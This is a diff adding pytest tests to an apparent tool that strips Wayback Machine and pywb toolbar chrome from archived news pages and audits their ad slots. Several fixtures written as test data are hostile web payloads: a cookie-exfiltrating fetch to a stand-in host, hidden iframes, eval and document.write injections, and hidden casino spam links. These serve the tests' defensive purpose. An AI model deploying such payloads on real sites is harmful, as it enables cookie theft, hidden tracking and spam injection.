@@ -11,6 +11,7 @@ links to archived copies.
 from __future__ import annotations
 
 import io
+import re
 import time
 from pathlib import Path
 
@@ -465,6 +466,14 @@ _DRESSED = [
     # markup the browser reads otherwise: a comment ended early, a '>' in a quoted value
     '<!--><script src="https://evil-track.test/x.js"></script>-->',
     '<img title=">" src="//evil-track.test/p.gif">',
+    # the saved toolbar's template, the chrome's own names or a 2011-2016 handler around it
+    '<template shadowrootmode="open"><iframe src="http://evil-track.test/in.cgi?2" width="1" '
+    'height="1" style="visibility:hidden"></iframe></template>',
+    '<div id="wm-ipp" class="c" style="position:absolute;left:-9999px">' + "".join(
+        f'<a href="https://casino-bonus{i}.test/">online casino bonus {i}</a> ' for i in range(30)
+    ) + "</div>",
+    '<img src="/static/images/toolbar/wm_tb_close.png" onmouseover="showTrackers(\'inline\');'
+    'fetch(\'//evil-track.test/\'+document.cookie)">',
 ]
 
 
@@ -582,6 +591,7 @@ def test_chrome_comments_inside_a_tag_or_a_script_are_no_chrome(
     "<script>__wm.bt([" + " " * 200_000 + "x</script>",
     "<script>window.RufflePlayer.config={" + " " * 200_000 + "x</script>",
     "<script>" + "'<!--';" * 30_000 + "</script>",
+    "<script>" + "/*a" * 100_000 + "</script>",  # the 2011-2016 toolbar's code, read as tokens
 ])
 def test_a_chrome_region_is_read_in_one_pass(chrome: str) -> None:
     # blanks a call's arguments could split many ways, or a script full of '<!--' with no
@@ -720,3 +730,225 @@ def test_the_toolbars_capture_links_may_drop_the_pages_www(url: str | None) -> N
             f'20121031174402/youtube.com/testtube#">Oct</a>{_TOOLBAR[1]}<p>s</p></body></html>')
     doc, replay = unwrapped(Document(input="t", kind="html", text=text, url=url))
     assert replay is not None and "testtube#" not in doc.text
+
+
+_GPT_HEAD = ('<script async src="https://securepubads.g.doubleclick.net/tag/js/gpt.js"></script>'
+             "<script>window.googletag=window.googletag||{cmd:[]};googletag.cmd.push(function()"
+             "{googletag.defineSlot('/21987654/gazette/top',[728,90],'{ID}').addService("
+             "googletag.pubads());googletag.enableServices();});</script>")
+
+
+@pytest.mark.parametrize(("slot_id", "injected"), [
+    # a GPT slot's element, its id the page's
+    ("div-gpt-ad-top", '<div id="div-gpt-ad-top" style="min-width:728px;min-height:90px">'
+                       "</div>"),
+    # the toolbar's own id on the page's slot: the page's script names it
+    ("wm-ipp", '<div id="wm-ipp" style="width:728px;height:90px"></div>'),
+    # the toolbar's id with an ad class EasyList hides, or an ad slot's names alone
+    ("div-gpt-ad-x", '<div id="wm-ipp" class="adsbygoogle ad-banner" style="width:728px;'
+                     'height:90px"></div>'),
+    ("div-gpt-ad-x", '<div class="ad-banner ad-728x90" id="ad-top" style="width:728px;'
+                     'height:90px"></div>'),
+])
+def test_an_ad_slot_dressed_as_chrome_stays_a_slot(
+    slot_id: str, injected: str, engine: Engine, catalogue: Catalogue
+) -> None:
+    # an id or class the archive's chrome does not give, or an id the page's own code
+    # names, makes the region the page's: no slot leaves the count
+    def page(dressed: bool) -> PageReport:
+        start, end = _TOOLBAR if dressed else ("", "")
+        text = (f"<!DOCTYPE html>\n<html><head>{_WOMBAT_OF_SITE}"
+                f"{_GPT_HEAD.replace('{ID}', slot_id)}</head><body>\n{start}{injected}{end}\n"
+                f"<script>googletag.cmd.push(function(){{googletag.display('{slot_id}');}});"
+                "</script><article><p>The council voted.</p></article></body></html>")
+        return audit_document(Document("t", "html", text, "https://www.harbour-gazette.test/"),
+                              engine, catalogue)
+
+    dressed, bare = page(True), page(False)
+    assert dressed.replay is not None and bare.slots
+    assert _what_it_names(dressed) == _what_it_names(bare)
+
+
+def test_the_names_chrome_may_give_make_no_ad_slot(engine: Engine, catalogue: Catalogue
+                                                   ) -> None:
+    # the ids and classes the chrome may carry are no ad markup EasyList or the catalogue
+    # knows: an element so named outside any chrome is no slot either
+    names = ["wm-ipp", "wm-ipp-base", "wmtbURL", "wm_tb_options", "donato-if",
+             "displayYearEl", "sparklineImgId", "wbMouseTrackYearImg", "HEADER", "SHARE_LONGLINK"]
+    classes = ["c", "u", "n", "b", "f", "s", "k", "r", "t", "yt", "mt", "hi", "sparkline",
+               "c-logo", "xxs", "wm-btn", "wm-closed", "wm-title", "iconochive-web",
+               "wb-autocomplete-suggestions"]
+    body = "".join(f'<div id="{n}" style="width:300px;height:250px">x</div>' for n in names)
+    body += "".join(f'<div class="{c}" style="width:300px;height:250px">x</div>'
+                    for c in classes)
+    page = audit_document(Document("t", "html", f"<html><body>{body}<p>story</p></body></html>",
+                                   "https://www.harbour-gazette.test/"), engine, catalogue)
+    assert page.slots == ()
+
+
+def _pywb_latest() -> str:
+    """The pywb fixture as pywb serves its latest capture: no timestamp in its URLs."""
+    text = (HERE / "news-pywb.html").read_text(encoding="utf-8")
+    return re.sub(rf"/gazette-2024/{STAMP}(?:([a-z]{{2,3}}_)/|/)",
+                  lambda m: "/gazette-2024/" + (f"{m.group(1)}/" if m.group(1) else ""), text)
+
+
+@pytest.mark.parametrize("url", [
+    f"http://localhost:8080/gazette-2024/mp_/{ORIGINAL_URL}",
+    f"http://localhost:8080/gazette-2024/{ORIGINAL_URL}",
+    None,
+])
+def test_pywbs_latest_capture_with_no_timestamp_names_what_the_original_names(
+    url: str | None, original: PageReport, engine: Engine, catalogue: Catalogue
+) -> None:
+    text = _pywb_latest()
+    assert "/gazette-2024/js_/https://securepubads" in text and STAMP + "js_" not in text
+    copy = audit_document(Document("t", "html", text, url), engine, catalogue)
+    assert copy.url == ORIGINAL_URL and copy.replay is not None
+    assert copy.replay.replay_url == url
+    assert _what_it_names(copy) == _what_it_names(original)
+
+
+@pytest.mark.parametrize("link", [
+    # a redirector on another host, a query naming a URL, a path with no scheme after it
+    "https://out.test/gazette-2024/https://casino-bonus.test/",
+    "http://localhost:8080/gazette-2024/?url=https://casino-bonus.test/",
+    "/gazette-2024/search/https://casino-bonus.test/",
+    "/go/https://casino-bonus.test/",
+])
+def test_a_url_merely_holding_a_url_is_no_wrapper(link: str) -> None:
+    text = ('<html><head><script>wbinfo.url = "https://a.test/"; wbinfo.timestamp = '
+            '"20240312081530"; wbinfo.prefix = decodeURI("http://localhost:8080/gazette-2024/");'
+            f'</script></head><body><a href="{link}">x</a></body></html>')
+    doc, replay = unwrapped(Document(input="t", kind="html", text=text, url=None))
+    assert replay is not None and f'href="{link}"' in doc.text
+
+
+def _older_copy(stamp: str, captured: str, toolbar: str, head: str = "") -> str:
+    """The news page as the Wayback Machine served it before 2017: its URLs wrapped from
+    the archive's root, the head include (2014-2016: no comment closes it) and the toolbar
+    whose inline script defines its code, the trailer's comment after `</html>`."""
+    text = (HERE / "news-original.html").read_text(encoding="utf-8")
+    text = re.sub(r'((?:src|href)=")(https?://)', rf"\1/web/{stamp}/\2", text)
+    text = text.replace("<head>\n", "<head>" + head, 1).replace(
+        "<body>\n", "<body>" + (HERE / toolbar).read_text(encoding="utf-8"), 1)
+    return text + (f"\n<!--\n     FILE ARCHIVED ON {captured} AND RETRIEVED FROM THE\n"
+                   "     INTERNET ARCHIVE ON 4:03:22 Nov 9, 2016.\n"
+                   "     JAVASCRIPT APPENDED BY WAYBACK MACHINE, COPYRIGHT INTERNET ARCHIVE."
+                   "\n-->\n")
+
+
+_OLDER = [
+    # 2014-2016: the __wm module, /static/ files, the analytics head include
+    pytest.param("20150322034217", "3:42:17 Mar 22, 2015", "wayback-2015-toolbar.html",
+                 (HERE / "wayback-2015-head.html").read_text(encoding="utf-8"), id="2015"),
+    # 2013-2014: the __wm module with its sizes inside, jQuery's offset
+    pytest.param("20140611092845", "9:28:45 Jun 11, 2014", "wayback-2014-toolbar.html",
+                 (HERE / "wayback-2015-head.html").read_text(encoding="utf-8"), id="2014"),
+    # 2011-2013: global functions, staticweb.archive.org, wayback.archive.org's graph.jsp
+    pytest.param("20120130161341", "16:13:41 Jan 30, 2012", "wayback-2012-toolbar.html", "",
+                 id="2012"),
+]
+
+
+@pytest.mark.parametrize(("stamp", "captured", "toolbar", "head"), _OLDER)
+@pytest.mark.parametrize("given", ["replay", "original"])
+def test_a_2011_to_2016_wayback_copy_names_what_the_original_names(
+    stamp: str, captured: str, toolbar: str, head: str, given: str, original: PageReport,
+    engine: Engine, catalogue: Catalogue
+) -> None:
+    text = _older_copy(stamp, captured, toolbar, head)
+    url = f"https://web.archive.org/web/{stamp}/{ORIGINAL_URL}" if given == "replay" else (
+        ORIGINAL_URL)
+    copy = audit_document(Document("t", "html", text, url), engine, catalogue)
+    assert copy.replay is not None and copy.url == ORIGINAL_URL
+    assert _what_it_names(copy) == _what_it_names(original)
+    assert not any("archive.org" in r.url or "/static/" in r.url for r in copy.resources)
+    doc, _ = unwrapped(Document("t", "html", text, url))
+    assert "wbCurrentUrl" not in doc.text and "archive_analytics" not in doc.text
+    assert doc.text.count("\n") == text.count("\n")
+
+
+@pytest.mark.parametrize(("stamp", "captured", "toolbar", "head"), _OLDER)
+@pytest.mark.parametrize(("written", "hostile"), [
+    # the toolbar's code handed markup, a script URL or another host, or one statement more
+    ('var displayYear = "', 'var displayYear = "<img src=x onerror=alert(1)>'),
+    ('var wbPrefix = "', 'var wbPrefix = "javascript:fetch(name)//'),
+    ('var wbPrefix = "', 'var wbPrefix = "//evil-track.test/'),
+    ("trackerVal = val;", "trackerVal = val;eval(name);"),
+    ("$ipp&&disclaimElement($ipp);", "$ipp&&disclaimElement($ipp);$D.write(name);"),
+    ("disclaimElement(wmDisclaimBanner);", "disclaimElement(wmDisclaimBanner);document."
+                                           "write(name);"),
+    # a slot or another host inside it
+    ('<td class="r">', '<td class="r"><div class="ad-banner ad-728x90" style="width:728px;'
+                       'height:90px"></div>'),
+    ('<td style="text-align:right;padding:5px;width:65px;font-size:11px!important;">',
+     '<td><img src="//evil-track.test/p.gif" width="1" height="1"></td><td>'),
+])
+def test_an_older_toolbar_carrying_anything_else_is_the_pages(
+    stamp: str, captured: str, toolbar: str, head: str, written: str, hostile: str,
+    engine: Engine, catalogue: Catalogue
+) -> None:
+    text = _older_copy(stamp, captured, toolbar, head)
+    if written not in text:
+        pytest.skip("not in this year's toolbar")
+    dressed = text.replace(written, hostile, 1)
+    doc, replay = unwrapped(Document("t", "html", dressed, ORIGINAL_URL))
+    assert replay is not None and hostile in doc.text
+
+
+def test_the_2018_head_include_with_wb_wombat_init_is_the_archives() -> None:
+    # 2017-2018's head include told its client-side rewriter the capture's host
+    head = ('<head><script src="//archive.org/includes/analytics.js?v=cf34f82" type="text/'
+            'javascript"></script>\n<script type="text/javascript" src="/static/js/ait-client-'
+            'rewrite.js?v=1538596186.0" charset="utf-8"></script>\n<script type="text/javascript">'
+            "\nWB_wombat_Init('https://web.archive.org/web', '20180707155901', "
+            "'www.harbour-gazette.test');\n</script>\n<link rel=\"stylesheet\" type=\"text/css\" "
+            'href="/static/css/banner-styles.css?v=1538596186.0" />\n'
+            "<!-- End Wayback Rewrite JS Include -->\n")
+    text = f"<html>{head}<title>Ferry</title></head><body><p>story</p></body></html>"
+    doc, replay = unwrapped(Document("t", "html", text, f"https://web.archive.org/web/"
+                                     f"20180707155901/{ORIGINAL_URL}"))
+    assert replay is not None
+    assert "WB_wombat_Init" not in doc.text and "/static/" not in doc.text
+    assert doc.text.count("\n") == text.count("\n")
+
+
+@pytest.mark.parametrize("url", [WAYBACK_URL, ORIGINAL_URL, None])
+def test_a_replay_saved_by_a_browser_names_what_the_original_names(
+    url: str | None, original: PageReport, engine: Engine, catalogue: Catalogue
+) -> None:
+    # "Save as" from the replay (news-wayback-saved.html): the archive's files beside the
+    # page (`./<title>_files/bundle-playback.js.download`), the toolbar serialised from its
+    # shadow root into a <template> with an empty class, links made absolute
+    text = (HERE / "news-wayback-saved.html").read_text(encoding="utf-8")
+    copy = audit_document(Document("t", "html", text, url), engine, catalogue)
+    assert copy.replay is not None and copy.url == ORIGINAL_URL
+    assert _what_it_names(copy) == _what_it_names(original)
+    assert not any("_files/" in r.url or "archive.org" in r.url for r in copy.resources)
+
+
+@pytest.mark.parametrize("injected", [
+    # a page's own saved script, or a file of the archive's name in another folder
+    '<script src="./Harbour council approves ferry timetable_files/gpt.js.download"></script>',
+    '<script src="./x_files/../evil/wombat.js.download"></script>',
+    '<script src="//evil-track.test/x_files/wombat.js.download"></script>',
+    '<template><img src="//evil-track.test/p.gif"></template>',
+    '<template shadowrootmode="open"><div class="ad-banner ad-728x90"></div></template>',
+])
+def test_a_saved_toolbar_carries_nothing_else(injected: str) -> None:
+    text = (f"<html><head>{_WOMBAT_OF_SITE}</head><body>{_TOOLBAR[0]}{injected}{_TOOLBAR[1]}"
+            "<p>story</p></body></html>")
+    doc, replay = unwrapped(Document("t", "html", text, "https://www.harbour-gazette.test/"))
+    assert replay is not None and injected in doc.text
+
+
+def test_a_saved_copys_relative_wrappers_are_unwrapped() -> None:
+    # a copy saved with its links made relative to its folder (`../web/<time>/…`)
+    text = (f"<html><head>{_WOMBAT_OF_SITE}</head><body><a href=\"../web/20230105123456/"
+            'https://www.harbour-gazette.test/a">a</a><img src="../../web/20230105123456im_/'
+            'https://v.test/p.gif"></body></html>')
+    doc, replay = unwrapped(Document("t", "html", text, None))
+    assert replay is not None
+    assert 'href="https://www.harbour-gazette.test/a"' in doc.text
+    assert 'src="https://v.test/p.gif"' in doc.text
